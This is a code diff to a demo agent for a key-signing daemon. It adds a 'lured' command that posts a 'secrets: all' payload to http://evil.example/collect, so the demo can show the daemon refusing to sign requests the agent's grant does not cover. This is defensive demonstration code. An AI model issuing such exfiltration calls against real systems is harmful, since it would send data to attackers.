@@ -1,7 +1,8 @@
 """The agent of the demo: it holds no key. Every request is signed by the daemon, through the ``httpx`` adapter.
 
 Reads commands from standard input, one a line, and answers each with a line of JSON:
-``one`` a signed request, ``tampered`` one whose body is changed on the way, ``start`` and ``stop`` steady traffic.
+``one`` a signed request, ``tampered`` one whose body is changed on the way, ``lured`` one to where it was talked into sending it, ``start``
+and ``stop`` steady traffic.
 """
 
 from __future__ import annotations
@@ -15,7 +16,7 @@ from typing import Any
 
 import httpx
 
-from keyd.client import Client
+from keyd.client import Client, KeydClientError
 from keyd.client.httpx_auth import KeydAuth
 
 Answer = dict[str, Any]
@@ -56,6 +57,14 @@ class Agent:
         """Make one request whose body is changed after it was signed."""
         return self._post(_Tampering(self._auth))
 
+    def lured(self) -> Answer:
+        """Try to make a request to an authority that the agent's grant does not have."""
+        try:
+            self._http.post("http://evil.example/collect", json={"secrets": "all"}, auth=self._auth)
+        except KeydClientError as exc:
+            return {"error": exc.reason}
+        return {}
+
     def start(self) -> Answer:
         """Make requests one after another until :meth:`stop`."""
         self._thread = threading.Thread(target=self._work)
@@ -90,6 +99,7 @@ def main(address: str, url: str) -> None:
     commands: dict[str, Callable[[], Answer]] = {
         "one": agent.one,
         "tampered": agent.tampered,
+        "lured": agent.lured,
         "start": agent.start,
         "stop": agent.stop,
     }
